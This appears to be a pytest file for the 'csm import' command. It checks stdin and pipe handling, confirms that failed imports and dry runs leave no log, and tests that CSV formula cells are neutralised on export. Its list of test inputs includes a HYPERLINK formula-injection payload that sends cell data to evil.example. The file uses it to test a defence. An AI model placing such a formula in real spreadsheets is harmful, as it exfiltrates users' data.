"""`csm import` reads its source once (files, `-`, pipes, `<(...)`), leaves no
log behind when it fails or is a dry run, and CSV cells a spreadsheet would
run as formulas are neutralised on export and restored exactly on import."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csm_checklist.exchange.formats import neutral_cell, restore_cell
from csm_checklist.store.sqlite import SqliteStore

from clihelp import run, track_from
from faults import csm_env, kept, refused, run_process, seed_log

LOG = Path("data") / "log.sqlite3"


@pytest.fixture
def export_jsonl(tmp_path: Path, data_dir: Path) -> bytes:
    seed_log()
    text = run("export", "--format", "jsonl").stdout.encode()
    shutil.rmtree(data_dir)
    return text


def count(tmp_path: Path) -> int:
    with SqliteStore.open(tmp_path / LOG) as log:
        return log.count()


def test_dash_reads_stdin(export_jsonl: bytes, tmp_path: Path) -> None:
    result = run_process("import", "-", input=export_jsonl)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("Added 2 events; 0 were already present.\n")
    assert count(tmp_path) == 2


def test_dev_stdin_from_a_pipe(export_jsonl: bytes, tmp_path: Path) -> None:
    # Before: "Added 0 events", because the pipe was read twice.
    result = run_process("import", "/dev/stdin", input=export_jsonl)
    assert result.stdout.startswith("Added 2 events; 0 were already present.\n"), result.stderr
    assert count(tmp_path) == 2


def test_a_slow_pipe_loses_no_record(export_jsonl: bytes, tmp_path: Path) -> None:
    first, rest = export_jsonl.split(b"\n", 1)
    first += b"\n"
    feeder = (
        "import sys, time\n"
        f"sys.stdout.buffer.write({first!r}); sys.stdout.flush()\n"
        "time.sleep(0.5)\n"
        f"sys.stdout.buffer.write({rest!r})\n"
    )
    source = subprocess.Popen([sys.executable, "-c", feeder], stdout=subprocess.PIPE)
    done = subprocess.run(
        [sys.executable, "-m", "csm_checklist", "import", "-"],
        stdin=source.stdout,
        capture_output=True,
        env=csm_env(),
    )
    source.wait()
    assert done.stdout.startswith(b"Added 2 events; 0 were already present.\n"), done.stderr
    assert count(tmp_path) == 2


def test_process_substitution(export_jsonl: bytes, tmp_path: Path) -> None:
    source = tmp_path / "events.jsonl"
    source.write_bytes(export_jsonl)
    command = f'"{sys.executable}" -m csm_checklist import <(cat "{source}")'
    done = subprocess.run(["bash", "-c", command], capture_output=True, env=csm_env())
    assert done.stdout.startswith(b"Added 2 events; 0 were already present.\n"), done.stderr
    assert count(tmp_path) == 2


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_other_formats_from_stdin(fmt: str, tmp_path: Path, data_dir: Path) -> None:
    seed_log()
    text = run("export", "--format", fmt).stdout.encode()
    shutil.rmtree(data_dir)
    assert run_process("import", "-", input=text).exit_code == 0
    assert count(tmp_path) == 2


BAD_SOURCES = {
    "a bad record": (b'{"uuid": "x"}\n', "line 1"),
    "not UTF-8": (b"\xff\xfe\x00garbage\n", "not UTF-8"),
    "deeply nested json": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "deeply nested jsonl": (b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "nested"),
    "a csv that is no export": (b"name,phone\nmona,1\n", "header"),
}


@pytest.mark.parametrize("case", sorted(BAD_SOURCES))
@pytest.mark.parametrize("dry_run", [False, True])
def test_a_failed_import_creates_no_log(case: str, dry_run: bool, tmp_path: Path) -> None:
    data, phrase = BAD_SOURCES[case]
    source = tmp_path / "bad.txt"
    source.write_bytes(data)
    args = ["import", str(source)] + (["--dry-run"] if dry_run else [])
    refused(run(*args), 2, phrase)
    assert not (tmp_path / "data").exists() or not list((tmp_path / "data").iterdir())


@pytest.mark.parametrize("case", sorted(BAD_SOURCES))
def test_a_failed_import_leaves_a_log_as_it_was(case: str, tmp_path: Path) -> None:
    seed_log()
    before = kept(tmp_path)
    data, phrase = BAD_SOURCES[case]
    refused(run_process("import", "-", input=data), 2, phrase)
    assert kept(tmp_path) == before


def test_a_dry_run_creates_no_log(export_jsonl: bytes, tmp_path: Path) -> None:
    source = tmp_path / "events.jsonl"
    source.write_bytes(export_jsonl)
    result = run("import", str(source), "--dry-run")
    assert result.stdout.startswith("Would add 2 events; 0 were already present.\n")
    assert not (tmp_path / LOG).exists()


@pytest.mark.parametrize(
    ("source", "phrase"), [("missing.csv", "does not exist"), (".", "is a folder")]
)
def test_unreadable_sources(source: str, phrase: str, tmp_path: Path) -> None:
    refused(run("import", str(tmp_path / source)), 2, phrase)
    assert not (tmp_path / LOG).exists()


# Formula cells ---------------------------------------------------------------

FORMULAS = [
    "-5 refunds",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1 escalation",
    "@SUM(A1:A2)",
    "\tindented",
    "\rcarriage",
    "'quoted already",
    "'=both",
    "plain note",
    "",
]


@pytest.mark.parametrize("note", FORMULAS)
def test_csv_formula_cells_are_neutral_and_come_back_exactly(
    note: str, tmp_path: Path, data_dir: Path
) -> None:
    track_from()
    assert run("done", "monitor-accounts", "--on", "2026-11-02", "--note", note).exit_code == 0
    text = run("export", "--format", "csv").stdout
    row = next(r for r in csv.DictReader(io.StringIO(text, newline="")))
    assert row["note"] == neutral_cell(note)
    if note[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert row["note"] == "'" + note  # a spreadsheet shows it as text
    shutil.rmtree(data_dir)
    source = tmp_path / "events.csv"
    source.write_text(text, encoding="utf-8", newline="")
    assert run("import", str(source)).exit_code == 0
    (event,) = SqliteStore.open(tmp_path / LOG).events()
    assert event.note == note


@given(st.text())
@settings(max_examples=300)
def test_restore_undoes_neutral(value: str) -> None:
    cell = neutral_cell(value)
    assert cell is not None
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(cell) == value
